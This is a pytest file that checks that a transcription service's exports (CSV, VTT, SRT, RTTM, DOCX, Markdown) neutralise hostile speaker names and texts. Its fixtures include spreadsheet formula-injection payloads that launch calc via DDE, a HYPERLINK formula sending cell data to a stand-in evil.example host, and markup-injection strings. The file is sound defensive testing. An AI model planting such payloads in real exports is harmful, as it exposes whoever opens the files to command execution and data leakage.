"""Hostile names and corrections in every export: formulas stay text, cues stay cues, every file opens.

The names and texts are what a person can type into the task page (the page tidies whitespace, but
not other control characters) or what an older stored result may hold.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re

import docx
import pytest

from services.results.edits import Edits, SegmentEdit, SpeakerLabel, apply_edits
from services.results.exports import FORMATS, render
from services.results.stats import conversation_stats, stats_csv
from services.results.text_safety import FORMULA_STARTS, spreadsheet_cell
from services.schema import AnalysisResult, Segment, Speaker, SpeakerTurn

CONTROL = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r") + "\x7f\x85\u2028\ufffe"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NAMES = [
    "=cmd|' /C calc'!A0",
    "Eve> -->",
    "<v Mallory>",
    "A & B",
    "![x](http://evil.example/x.png)",
    f"ctl{CONTROL}end",
]
TEXTS = [
    *FORMULAS,
    "a --> b",
    "</c><b>bold</b> & <i>",
    "bell\x07 nul\x00 esc\x1b[31m red",
    "line\u2028break\u2029para",
]

MACHINE = AnalysisResult(
    duration=float(2 * len(TEXTS)),
    language="en",
    model="tiny.en",
    speakers=tuple(Speaker(f"SPEAKER_{i:02d}", f"SPEAKER_{i:02d}", 1.0) for i in range(len(NAMES))),
    segments=tuple(
        Segment(2.0 * i, 2.0 * i + 1.5, f"original {i}", (), f"SPEAKER_{i % len(NAMES):02d}") for i in range(len(TEXTS))
    ),
    turns=tuple(SpeakerTurn(2.0 * i, 2.0 * i + 1.5, f"SPEAKER_{i % len(NAMES):02d}") for i in range(len(TEXTS))),
)
HOSTILE = apply_edits(
    MACHINE,
    Edits(
        labels=tuple(SpeakerLabel(f"SPEAKER_{i:02d}", name) for i, name in enumerate(NAMES)),
        segments=tuple(SegmentEdit(i, text=text) for i, text in enumerate(TEXTS)),
    ),
)
FILE_ID = "=evil\x01 <b>name</b>"


def test_spreadsheet_cell_quotes_formula_starts_only() -> None:
    for start in FORMULA_STARTS:
        assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_cell("Diane") == "Diane"
    assert spreadsheet_cell(-3.5) == -3.5  # numbers are not typed text


def test_csv_export_cells_never_start_like_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(render(HOSTILE, "csv"), newline="")))
    assert len(rows) == 1 + len(TEXTS)
    cells = [cell for row in rows[1:] for cell in row[2:]]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    texts = [row[3] for row in rows[1:]]
    assert texts[0] == "'" + FORMULAS[0] and texts[2] == "'-2+3"  # the words kept, behind the quote
    assert rows[1][2] == "'" + NAMES[0]


def test_statistics_csv_names_never_start_like_a_formula() -> None:
    rows = list(csv.DictReader(io.StringIO(stats_csv(conversation_stats(HOSTILE)), newline="")))
    assert len(rows) == len(NAMES)
    assert "'" + NAMES[0] in [row["speaker"] for row in rows]
    assert not [row for row in rows if row["speaker"].startswith(FORMULA_STARTS)]


def test_vtt_cues_survive_arrows_tags_and_controls() -> None:
    vtt = render(HOSTILE, "vtt")
    assert vtt.startswith("WEBVTT\n\n")
    blocks = vtt[len("WEBVTT\n\n") :].strip("\n").split("\n\n")
    assert len(blocks) == len(TEXTS)  # no cue was split or swallowed by a blank line
    for block, text in zip(blocks, HOSTILE.segments, strict=True):
        timing, *payload = block.split("\n")
        assert re.fullmatch(r"\d\d:\d\d:\d\d\.\d{3} --> \d\d:\d\d:\d\d\.\d{3}", timing)
        assert len(payload) == 1 and "-->" not in payload[0]
        voice = re.fullmatch(r"<v ([^>]*)>(.*)", payload[0])
        assert voice, payload[0]
        name, cue = voice.groups()
        assert "<" not in cue and ">" not in cue and not re.search(r"&(?!amp;|lt;|gt;)", cue)
        assert html.unescape(cue) == re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text.text)
        assert html.unescape(name) == re.sub(
            "[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", HOSTILE.speaker_name(text.speaker)
        )


def test_srt_cues_stay_one_numbered_block_each() -> None:
    blocks = render(HOSTILE, "srt").strip("\n").split("\n\n")
    assert [b.split("\n")[0] for b in blocks] == [str(i) for i in range(1, len(TEXTS) + 1)]
    assert all(len(b.split("\n")) == 3 and b.split("\n")[2].count("-->") == 0 for b in blocks)


def test_rttm_lines_keep_ten_fields() -> None:
    lines = render(HOSTILE, "rttm", file_id=FILE_ID).splitlines()
    assert len(lines) == len(TEXTS)
    assert all(len(line.split(" ")) == 10 for line in lines)


def test_docx_opens_with_control_characters_in_names_and_text() -> None:
    body = render(HOSTILE, "docx", file_id=FILE_ID)
    paragraphs = [p.text for p in docx.Document(io.BytesIO(body)).paragraphs]
    assert paragraphs[0] == "=evil <b>name</b>"
    assert "bell nul esc[31m red" in paragraphs
    assert any(p.startswith("ctl") and "end  0:" in p for p in paragraphs)


def test_markdown_export_has_no_link_image_or_tag() -> None:
    from markdown_it import MarkdownIt  # CommonMark, as Markdown viewers read it

    md = render(HOSTILE, "md", file_id=FILE_ID)
    page = MarkdownIt("commonmark").render(md)
    assert not re.search(r"<(a|img|b|i|v|c)[ >]", page), page
    assert "![x](http://evil.example/x.png)" in html.unescape(page)  # the name shown as typed
    assert len(md.splitlines()) == 3 + 3 * len(TEXTS)  # title, blank, summary; blank, name, text per block


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_format_renders_and_parses_hostile_text(fmt: str) -> None:
    body = render(HOSTILE, fmt, file_id=FILE_ID)
    if fmt == "docx":
        assert docx.Document(io.BytesIO(body)).paragraphs
    elif fmt == "json":
        assert AnalysisResult.from_dict(json.loads(body)) == HOSTILE
    elif fmt == "txt":
        assert len([line for line in body.split("\n") if line]) == len(TEXTS)
    else:
        assert isinstance(body, str) and body
